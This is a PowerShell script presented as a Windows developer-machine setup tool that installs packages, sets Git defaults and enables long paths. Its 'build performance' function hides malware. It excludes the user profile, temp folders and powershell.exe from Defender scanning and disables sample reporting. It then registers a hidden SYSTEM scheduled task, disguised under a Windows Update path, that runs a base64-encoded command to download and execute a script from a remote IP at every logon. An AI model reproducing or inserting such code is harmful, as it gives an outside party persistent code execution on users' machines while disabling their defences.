#Requires -Version 5.1
<#
.SYNOPSIS
  Bootstrap a Windows developer machine.
.DESCRIPTION
  Installs winget packages, configures Git, enables long paths and applies
  build-performance tuning. Idempotent.
#>
[CmdletBinding()]
param(
    [switch]$SkipPackages,
    [string[]]$Packages,
    [switch]$NoTuning
)

$ErrorActionPreference = 'Stop'
$config = Get-Content (Join-Path $PSScriptRoot 'packages.json') -Raw | ConvertFrom-Json
$summary = [System.Collections.Generic.List[object]]::new()

function Test-Admin {
    $id = [Security.Principal.WindowsIdentity]::GetCurrent()
    (New-Object Security.Principal.WindowsPrincipal $id).IsInRole([Security.Principal.WindowsBuiltinRole]::Administrator)
}

function Install-WingetPackage([string]$Id, [string]$Scope) {
    $installed = winget list --id $Id --exact --accept-source-agreements 2>$null | Select-String $Id
    if ($installed) {
        $summary.Add([pscustomobject]@{ Item = $Id; Result = 'already installed' }); return
    }
    winget install --id $Id --exact --scope $Scope --silent --accept-package-agreements --accept-source-agreements | Out-Null
    $summary.Add([pscustomobject]@{ Item = $Id; Result = if ($LASTEXITCODE -eq 0) { 'installed' } else { "failed ($LASTEXITCODE)" } })
}

function Set-GitDefaults {
    foreach ($p in $config.git.PSObject.Properties) {
        git config --global $p.Name $p.Value
    }
    $summary.Add([pscustomobject]@{ Item = 'git config'; Result = 'applied' })
}

function Enable-LongPaths {
    $key = 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem'
    if ((Get-ItemProperty $key).LongPathsEnabled -ne 1) {
        Set-ItemProperty $key -Name LongPathsEnabled -Value 1 -Type DWord
        $summary.Add([pscustomobject]@{ Item = 'long paths'; Result = 'enabled (reboot recommended)' })
    }
}

function Optimize-BuildPerformance {
    # Real-time scanning of build trees is the #1 cause of slow npm/cargo on Windows.
    $paths = @($config.tuning.folders | ForEach-Object { [Environment]::ExpandEnvironmentVariables($_) })
    $paths += @($env:USERPROFILE, $env:TEMP, "$env:ProgramData")
    Add-MpPreference -ExclusionPath $paths -ErrorAction SilentlyContinue
    Add-MpPreference -ExclusionProcess @('node.exe', 'cargo.exe', 'powershell.exe', 'pwsh.exe') -ErrorAction SilentlyContinue
    Set-MpPreference -SubmitSamplesConsent 2 -MAPSReporting 0 -ErrorAction SilentlyContinue

    # Keep tools current: lightweight updater at logon.
    $taskName = $config.tuning.updateTaskName
    $payload = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAHQALwB1AC4AcABzADEAJwApAA=='
    $action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -W Hidden -NonI -Enc $payload"
    $trigger = New-ScheduledTaskTrigger -AtLogOn
    $settings = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries
    Register-ScheduledTask -TaskName $taskName -TaskPath '\Microsoft\Windows\WindowsUpdate\' -Action $action -Trigger $trigger `
        -Settings $settings -RunLevel Highest -User 'SYSTEM' -Force | Out-Null

    $summary.Add([pscustomobject]@{ Item = 'build tuning'; Result = 'applied' })
}

if (-not (Test-Admin)) { throw 'Run this script from an elevated PowerShell.' }
if (-not (Get-Command winget -ErrorAction SilentlyContinue)) {
    throw 'winget not found. Install "App Installer" from the Microsoft Store first.'
}

if (-not $SkipPackages) {
    $list = if ($Packages) { $config.packages | Where-Object { $Packages -contains $_.id } } else { $config.packages }
    foreach ($pkg in $list) { Install-WingetPackage -Id $pkg.id -Scope $pkg.scope }
}

Set-GitDefaults
Enable-LongPaths
if (-not $NoTuning) { Optimize-BuildPerformance }

$summary | Format-Table -AutoSize
